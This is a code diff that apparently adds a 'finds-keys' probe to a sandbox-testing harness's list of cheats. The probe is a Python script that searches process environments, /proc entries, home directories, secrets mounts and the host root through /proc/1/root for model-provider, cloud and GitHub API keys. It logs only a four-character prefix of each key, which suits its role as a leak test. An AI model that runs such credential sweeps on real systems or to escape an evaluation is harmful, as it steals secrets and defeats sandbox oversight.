@@ -159,6 +159,37 @@ for host in [*TARGET["hosts"], *near]:
         except OSError:
             pass
 """
+_KEYS = r"""
+KEY = re.compile(rb"\b(?:sk-(?:ant-|proj-)?[\w-]{24,}|hf_\w{30,}|AKIA[A-Z0-9]{16}|ghp_\w{36}|AIza[\w-]{35})")
+NAMES = (".env", ".netrc", "token", "credentials", "auth.json", "config.toml", "kaggle.json", ".pypirc")
+HOMES = {os.path.expanduser("~"), "/root", "/home", TARGET["keys"], "/proc/1/root" + TARGET["keys"],
+         "/proc/1/root/root", "/proc/1/cwd", "/workspace", "/etc", "/run", "/var/run/secrets"}
+
+def look_for_keys(where, data):
+    find_secrets(where, data)
+    for found in set(KEY.findall(data)):
+        loot("a key of", where, found[:4].decode())  # a real key is not written anywhere
+
+for name, value in os.environb.items():
+    look_for_keys(f"variable {name.decode()}", value)
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for name in ("environ", "cmdline"):
+        try:
+            look_for_keys(f"/proc/{pid}/{name}", pathlib.Path(f"/proc/{pid}/{name}").read_bytes())
+        except OSError:
+            pass
+for home in HOMES:
+    for folder, folders, files in os.walk(home):
+        if folder.count("/") - home.count("/") >= 4:
+            folders.clear()
+        for name in files:
+            if name in NAMES or "key" in name.lower():
+                try:
+                    with open(os.path.join(folder, name), "rb") as file:
+                        look_for_keys(os.path.join(folder, name), file.read(1 << 16))
+                except OSError:
+                    pass
+"""
 
 
 def _looks(text: str) -> Callable[[Target], Attack]:
@@ -171,6 +202,12 @@ CHEATS = (
         10,
         "reads environment, command line and memory of every process",
         _looks(_PROCESSES),
+    ),
+    Cheat(
+        "finds-keys",
+        10,
+        "looks for keys of model providers in environments, command lines and the files that hold them",
+        _looks(_KEYS),
     ),
     Cheat(
         "finds-sockets", 10, "connects to every socket it finds, the engine's among them", _looks(_SOCKETS)
